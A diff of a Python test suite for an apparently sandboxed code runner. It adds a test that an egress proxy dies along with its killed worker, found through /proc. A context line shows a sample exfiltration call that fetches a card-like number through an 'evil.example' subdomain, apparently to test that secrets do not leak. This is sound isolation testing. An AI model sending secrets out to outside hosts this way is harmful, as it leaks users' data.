@@ -326,6 +326,52 @@ print(json.dumps({"s": fetch("http://4111111111111111.evil.example/x")["status"]
     check(leaked == 0, "the secret is in the event log")
 
 
+def proxies_of(pid):
+    """The pids of the egress proxies whose parent is pid."""
+    found = []
+    for d in os.listdir("/proc"):
+        try:
+            with open("/proc/%s/cmdline" % d, "rb") as f:
+                cmd = f.read().split(b"\0")
+            with open("/proc/%s/stat" % d) as f:
+                ppid = int(f.read().rsplit(")", 1)[1].split()[1])
+        except (OSError, ValueError, IndexError):
+            continue
+        if b"--egress-proxy" in cmd and ppid == pid:
+            found.append(int(d))
+    return found
+
+
+def alive(pid):
+    try:
+        with open("/proc/%d/stat" % pid) as f:
+            return f.read().rsplit(")", 1)[1].split()[0] != "Z"
+    except (OSError, IndexError):
+        return False
+
+
+@test
+def a_proxy_dies_with_its_worker():
+    """SIGKILL to the worker's back while a granted run holds its proxy: the proxy goes too
+    (parent-death signal set after the proxy's uid changed, which clears it)."""
+    shared()
+    s = Stack(slots=2, policy=policy(SRV), worker_args=["--uid-base", str(UID_BASE + 100)])
+    try:
+        c = s.client()
+        c.call("submit", lang="python", session="dies", code=py("""
+print(fetch(%r)["status"], flush=True)
+time.sleep(120)
+""" % url("http", "/hello"), "EGRESS_ALLOW"), timeout=5)
+        back = s.workers[0]
+        proxies = wait_for(lambda: proxies_of(back.pid), 20, "the run's proxy")
+        back.kill()
+        back.wait(timeout=10)
+        wait_for(lambda: not any(alive(p) for p in proxies), 10, "the proxy's end")
+        c.close()
+    finally:
+        s.stop()
+
+
 @test
 def no_route_out_but_the_proxy():
     """In a run that has a grant (its proxy works), raw sockets and name lookups still fail:
